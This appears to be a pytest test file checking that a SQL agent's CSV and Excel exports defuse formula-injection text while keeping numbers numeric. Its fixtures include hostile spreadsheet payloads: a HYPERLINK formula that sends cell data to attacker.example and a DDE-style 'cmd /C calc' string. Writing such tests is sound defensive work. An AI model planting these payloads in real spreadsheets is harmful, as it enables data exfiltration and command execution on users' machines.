"""CSV and Excel downloads of hostile cells: formula-like text is defused, numbers stay numbers.

Each file is read back the way a user's program would (``csv``, ``openpyxl.load_workbook``)
and every cell is compared with exactly what it must hold.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import sys
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pytest

from sqlagent.answer.export import defuse_formula, to_csv_bytes, to_xlsx_bytes
from sqlagent.db import connect
from sqlagent.errors import ConfigError

# text in the database -> the text a spreadsheet must receive
HOSTILE_TEXT: list[tuple[str, str]] = [
    ('=HYPERLINK("https://attacker.example/?d="&A1,"click")', "'=HYPERLINK(\"https://attacker.example/?d=\"&A1,\"click\")"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("＝1", "'＝1"),
    ("＋1", "'＋1"),
    ("－1", "'－1"),
    ("＠SUM(1)", "'＠SUM(1)"),
    ("  =1+1", "'  =1+1"),
    ("\n=1", "'\n=1"),
    ("-12.5", "-12.5"),  # only a negative number: a spreadsheet reads the number it says
    ("-1e3", "-1e3"),
    ("- 5", "'- 5"),
    (" -5", "' -5"),  # only text that is exactly a negative number is kept
    ("\t-5", "'\t-5"),
    ("-5 ", "'-5 "),
    ("-", "'-"),
    ("a=1", "a=1"),
    ("Zürich 中文 🙂", "Zürich 中文 🙂"),
    ('say "hi", then\nleave', 'say "hi", then\nleave'),
    ("", ""),
]  # fmt: skip


@pytest.mark.parametrize(("value", "expected"), HOSTILE_TEXT)
def test_defuse_formula(value: str, expected: str) -> None:
    assert defuse_formula(value) == expected


COLUMNS = ["label", "text", "int", "float", "exact"]
ROWS: list[tuple[Any, ...]] = [
    (value, value, -5, -0.5, Decimal("-3.25")) for value, _ in HOSTILE_TEXT
]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_csv_cells_read_back_defused_and_numbers_stay_numbers() -> None:
    rows = read_csv(to_csv_bytes(COLUMNS, ROWS))
    assert rows[0] == COLUMNS
    assert len(rows) == len(HOSTILE_TEXT) + 1
    for (value, expected), row in zip(HOSTILE_TEXT, rows[1:], strict=True):
        assert row == [expected, expected, "-5", "-0.5", "-3.25"], value


def test_csv_quotes_only_what_needs_it() -> None:
    data = to_csv_bytes(["a", "b"], [("=1,2", 'x"y'), (-5, "\r=1")])
    assert data == b'a,b\r\n"\'=1,2","x""y"\r\n-5,"\'\r=1"\r\n'


def test_a_formula_column_name_is_defused_too() -> None:
    columns = ['=HYPERLINK("https://attacker.example")', "-n", "ok"]
    expected = ['\'=HYPERLINK("https://attacker.example")', "'-n", "ok"]
    assert read_csv(to_csv_bytes(columns, [(1, 2, 3)]))[0] == expected
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(columns, [(1, 2, 3)]))).active
    assert [c.value for c in sheet[1]] == expected
    assert {c.data_type for c in sheet[1]} == {"s"}


def test_excel_cells_are_strings_or_numbers_never_formulas() -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(COLUMNS, ROWS)))
    sheet = book.active
    assert sheet.title == "result"
    assert [c.value for c in sheet[1]] == COLUMNS
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(HOSTILE_TEXT)
    for (value, expected), row in zip(HOSTILE_TEXT, rows, strict=True):
        label, text, n, f, exact = row
        # XML reads a bare carriage return as a line feed; the defusing quote is still first.
        want = expected.replace("\r", "\n")
        if value == "":
            assert label.value is None and text.value is None
        else:
            assert (label.value, label.data_type) == (want, "s"), value
            assert (text.value, text.data_type) == (want, "s"), value
        assert (n.value, n.data_type) == (-5, "n")
        assert (f.value, f.data_type) == (-0.5, "n")
        assert (exact.value, exact.data_type) == (-3.25, "n")
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_excel_types_and_limits() -> None:
    values = [
        True,
        2**70,
        Decimal("12345678901234567.5"),
        float("nan"),
        dt.date(2025, 1, 31),
        dt.datetime(2025, 1, 31, 8, 5),
        dt.datetime(2025, 1, 31, 8, 5, tzinfo=dt.timezone.utc),
        {"k": "=1"},
        "\x1b[31mred\x00",
        "x" * 40000,
        -(2**70),
    ]
    columns = [f"c{i}" for i in range(len(values))]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(columns, [tuple(values)]))).active
    got = [c.value for c in sheet[2]]
    assert got[0] is True
    assert got[1] == str(2**70)  # beyond Excel's 15 digits: text keeps every digit
    assert got[2] == "12345678901234567.5"
    assert got[3] is None
    assert got[4] == dt.datetime(2025, 1, 31)  # Excel stores dates as date-times
    assert got[5] == dt.datetime(2025, 1, 31, 8, 5)
    assert got[6] == "2025-01-31T08:05:00+00:00"
    assert got[7] == '{"k": "=1"}'
    assert got[8] == "\\x1b[31mred\\x00"  # XML cannot hold these controls: shown, not dropped
    assert len(got[9]) == 32767 and got[9].endswith("…")
    assert got[10] == str(-(2**70))  # text that is exactly a negative number: no quote


def test_a_real_duckdb_result_with_hostile_values(tmp_path: Path) -> None:
    path = tmp_path / "hostile.duckdb"
    con = duckdb.connect(str(path))
    con.execute("CREATE TABLE t (id INTEGER, v VARCHAR, n INTEGER, x DOUBLE, d DECIMAL(6, 2))")
    con.executemany(
        "INSERT INTO t VALUES (?, ?, ?, ?, ?)",
        [(i, value, -5, -0.5, Decimal("-1.50")) for i, (value, _) in enumerate(HOSTILE_TEXT)],
    )
    con.close()
    db = connect(str(path))
    try:
        result = db.execute("SELECT v, n, x, d FROM t ORDER BY id", max_rows=100, timeout=30)
    finally:
        db.close()
    rows = read_csv(to_csv_bytes(result.columns, result.rows))
    assert [r[0] for r in rows[1:]] == [expected for _, expected in HOSTILE_TEXT]
    assert {tuple(r[1:]) for r in rows[1:]} == {("-5", "-0.5", "-1.50")}
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(result.columns, result.rows))).active
    cells = list(sheet.iter_rows(min_row=2))
    assert [c[0].value or "" for c in cells] == [
        expected.replace("\r", "\n") for _, expected in HOSTILE_TEXT
    ]
    assert {(c[1].value, c[2].value, c[3].value) for c in cells} == {(-5, -0.5, -1.5)}


def test_excel_without_openpyxl_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "openpyxl", None)  # import openpyxl now fails
    with pytest.raises(ConfigError) as caught:
        to_xlsx_bytes(["a"], [(1,)])
    assert "openpyxl" in caught.value.message
    assert caught.value.hint == "pip install 'sqlagent[excel]'"
